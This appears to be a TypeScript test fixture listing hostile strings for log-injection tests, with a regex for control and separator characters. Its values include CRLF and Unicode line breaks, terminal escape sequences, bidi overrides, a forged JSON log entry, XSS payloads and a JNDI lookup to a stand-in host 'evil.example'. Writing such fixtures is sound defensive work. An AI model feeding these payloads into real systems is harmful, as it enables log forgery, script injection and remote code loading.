/** Texts that a client or a user may choose for themselves, to forge a log line or to talk to who reads it. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'a line break': 'a\nb',
  'a line break of Windows': 'a\r\nb',
  'a line break of C1 (NEL)': 'a\u0085b',
  'a line separator': 'a\u2028b\u2029c',
  'vertical tab and form feed': 'a\u000bb\u000cc',
  'an escape sequence': 'a\u001b[2J\u001b]0;owned\u0007b',
  'an escape sequence of C1': 'a\u009b2Jb',
  'a backspace and DEL': 'admin\b\b\b\b\bguest\u007f',
  'a right-to-left override': 'a\u202egnp.exe',
  'an isolate': 'a\u2066b\u2069c',
  'a zero-width space': 'ad\u200bmin\ufeff',
  'JSON that ends the entry': '"},{"type":"session.signed-in","userId":"admin"}',
  'a backslash at the end': 'a\\',
  'a tag character': 'a\u{e0041}b',
  'a format string': '%s%n%d{{7*7}}$' + '{jndi:ldap://evil.example/a}',
  'a script': '<script>alert(1)</script><img src=x onerror=alert(1)>',
}

/** Everything that must not be in a line as it is. */
export const unseenCharacters: RegExp = /[\p{C}\p{Zl}\p{Zp}]/u
